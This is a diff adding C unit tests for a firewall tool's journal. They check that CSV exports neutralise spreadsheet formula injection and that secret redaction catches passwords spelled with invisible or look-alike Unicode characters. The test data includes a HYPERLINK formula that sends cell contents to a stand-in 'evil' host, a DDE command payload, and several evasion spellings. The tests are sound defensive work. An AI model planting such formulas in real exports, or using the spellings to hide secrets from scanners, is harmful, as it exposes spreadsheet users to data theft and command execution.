@@ -556,6 +556,57 @@ static int last_cb(int64_t s, const char *content, const char *h, void *x)
 	return 0;
 }
 
+/* A reason that a spreadsheet would evaluate (=HYPERLINK, +cmd, -, @)
+ * is exported in CSV with a leading apostrophe, as zonectl show --format
+ * csv does; the JSON export keeps it exact. */
+static void test_csv_formulas(void)
+{
+	static const char *const reasons[] = {
+		"=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+		"+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(1,2)",
+		"plain reason",
+	};
+	struct zw_journal *j = fresh();
+	struct zw_jprint p;
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *mem;
+	static char f[32][512];
+	const char *cur;
+
+	for (size_t i = 0; i < 5; i++)
+		add(j, ZW_JA_COMMIT, NULL, reasons[i], 0);
+	mem = open_memstream(&buf, &len);
+	zw_jprint__begin(&p, mem, ZW_JF_CSV);
+	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
+	zw_jprint__end(&p);
+	fclose(mem);
+	cur = buf;
+	CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 17);
+	for (size_t i = 0; i < 5; i++) {
+		char want[600];
+
+		snprintf(want, sizeof(want), "%s%s", i < 4 ? "'" : "", reasons[i]);
+		CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 17);
+		if (strcmp(f[10], want))
+			fprintf(stderr, "\ncsv reason %s, wanted %s\n", f[10], want);
+		CU_ASSERT_STRING_EQUAL(f[10], want);
+	}
+	free(buf);
+
+	buf = NULL;
+	mem = open_memstream(&buf, &len);
+	zw_jprint__begin(&p, mem, ZW_JF_JSON);
+	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
+	zw_jprint__end(&p);
+	fclose(mem);
+	CU_ASSERT_PTR_NOT_NULL(strstr(buf, "\"reason\": \"=HYPERLINK("));
+	free(buf);
+	zw_journal__free(j);
+}
+
 static void test_query_filters(void)
 {
 	struct zw_journal *j = fresh();
@@ -712,6 +763,96 @@ static void test_secrets(void)
 	}
 }
 
+/* Secrets spelled to slip past the patterns: pw=, a password glued to -p,
+ * invisible characters inside the keyword, full-width, mathematical or
+ * look-alike letters. Found, and redacted in the original text. */
+static void test_secrets_folded(void)
+{
+	static const struct {
+		const char *in, *out;
+	} cases[] = {
+		{"new pw=Hunter2xyz", "new pw=[redacted]"},
+		{"restore with mysql -uroot -pHunter2xyz now",
+		 "restore with mysql -uroot -p[redacted] now"},
+		{"mysql -psecretword", "mysql -p[redacted]"},
+		{"pass\xe2\x80\x8bword=Hunter2", /* U+200B zero-width space */
+		 "pass\xe2\x80\x8bword=[redacted]"},
+		{"pass\xc2\xadword: Hunter2", /* U+00AD soft hyphen */
+		 "pass\xc2\xadword: [redacted]"},
+		{"pass\xe2\x81\xa0word = Hunter2 end", /* U+2060 word joiner */
+		 "pass\xe2\x81\xa0word = [redacted] end"},
+		/* full-width "password＝" */
+		{"\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\xef\xbc\x9dhunter2",
+		 "\xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\xef\xbc\x9d[redacted]"},
+		/* Cyrillic a and o */
+		{"p\xd0\xb0ssw\xd0\xberd=hunter2", "p\xd0\xb0ssw\xd0\xberd=[redacted]"},
+		/* combining acute on the a, mathematical bold "pw" */
+		{"pa\xcc\x81ssword=hunter2", "pa\xcc\x81ssword=[redacted]"},
+		{"\xf0\x9d\x90\xa9\xf0\x9d\x90\xb0=hunter2", "\xf0\x9d\x90\xa9\xf0\x9d\x90\xb0=[redacted]"},
+		/* the value itself spelled full-width is still redacted whole */
+		{"token=\xef\xbc\xa1\xef\xbc\xa2\xef\xbc\xa3 end", "token=[redacted] end"},
+	};
+	static const char *clean[] = {
+		"ssh -p 2222 to the jump hosts",
+		"scan with nmap -p1-1024,8080",
+		"find / -prune -print",
+		"pre-prod rollout (-production flag off)",
+		"Ouverture du flux de supervision \xc3\xa9t\xc3\xa9 (caf\xc3\xa9)",
+		"\xd0\x9f\xd0\xb5\xd1\x80\xd0\xb5\xd0\xb2\xd0\xbe\xd0\xb4 \xd1\x81\xd0\xb5\xd1\x80\xd0\xb2\xd0\xb5\xd1\x80\xd0\xb0", /* Russian */
+	};
+	static const struct {
+		const char *doc;
+		bool secret;
+		size_t line;
+	} docs[] = {
+		{"zones:\n  token: {kind: servers, networks: [10.0.0.0/8]}\n", false, 0},
+		{"zones:\n  secret:\n    kind: servers\n", false, 0},
+		{"services:\n  pass: [{proto: tcp, ports: [1]}]\n", false, 0},
+		{"zonewall: 1\n# db password: hunter2\n", true, 2},
+		{"flows:\n  - id: Backup-Nightly-Server01-To-Storage02\n", false, 0},
+		{"flows:\n  - {id: \"Backup-Nightly-Server01-To-Storage02\", from: a}\n", false, 0},
+		{"a: 1\nb: 2\n# AKIAIOSFODNN7EXAMPLEwJalrXUtnFEMI9K\n", true, 3},
+		{"# pass\xe2\x80\x8bword=Hunter2\n", true, 1},
+		{"# reach it with ssh -p 2222\n", false, 0},
+	};
+	char what[64];
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char *s = zw_secret__scrub(cases[i].in);
+
+		if (!zw_secret__find(cases[i].in, what, sizeof(what)))
+			fprintf(stderr, "\nnot found: %s\n", cases[i].in);
+		CU_ASSERT_TRUE(zw_secret__find(cases[i].in, what, sizeof(what)));
+		CU_ASSERT_PTR_NOT_NULL_FATAL(s);
+		if (strcmp(s, cases[i].out))
+			fprintf(stderr, "\nscrub(%s) = %s\n", cases[i].in, s);
+		CU_ASSERT_STRING_EQUAL(s, cases[i].out);
+		CU_ASSERT_FALSE(zw_secret__find(s, NULL, 0));
+		free(s);
+	}
+	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
+		char *s = zw_secret__scrub(clean[i]);
+
+		if (zw_secret__find(clean[i], what, sizeof(what)))
+			fprintf(stderr, "\nfalse positive (%s): %s\n", what,
+				clean[i]);
+		CU_ASSERT_FALSE(zw_secret__find(clean[i], NULL, 0));
+		CU_ASSERT_STRING_EQUAL(s, clean[i]);
+		free(s);
+	}
+	for (size_t i = 0; i < sizeof(docs) / sizeof(docs[0]); i++) {
+		size_t line = 0;
+		bool found = zw_secret__find_lines(docs[i].doc, strlen(docs[i].doc),
+						   &line, what, sizeof(what));
+
+		if (found != docs[i].secret || line != docs[i].line)
+			fprintf(stderr, "\nfind_lines(%s) = %d line %zu\n",
+				docs[i].doc, found, line);
+		CU_ASSERT_EQUAL(found, docs[i].secret);
+		CU_ASSERT_EQUAL(line, docs[i].line);
+	}
+}
+
 static void test_secret_never_stored(void)
 {
 	struct zw_journal *j = fresh();
@@ -843,11 +984,13 @@ int main(void)
 	CU_add_test(s, "retention and archive", test_retention_and_archive);
 	CU_add_test(s, "archive record removed", test_archive_removed);
 	CU_add_test(s, "csv and json exports parse back", test_exports);
+	CU_add_test(s, "csv cells are no formulas", test_csv_formulas);
 	CU_add_test(s, "query filters", test_query_filters);
 	CU_add_test(s, "transaction abort", test_transaction_abort);
 	CU_add_test(s, "clock state recorded", test_clock_state_recorded);
 	CU_add_test(s, "time format", test_time_format);
 	CU_add_test(s, "secrets", test_secrets);
+	CU_add_test(s, "secrets spelled with Unicode tricks", test_secrets_folded);
 	CU_add_test(s, "secret never stored", test_secret_never_stored);
 	CU_add_test(s, "reason check", test_reason_check);
 	CU_add_test(s, "flow ids are not scrubbed", test_flow_id_not_scrubbed);
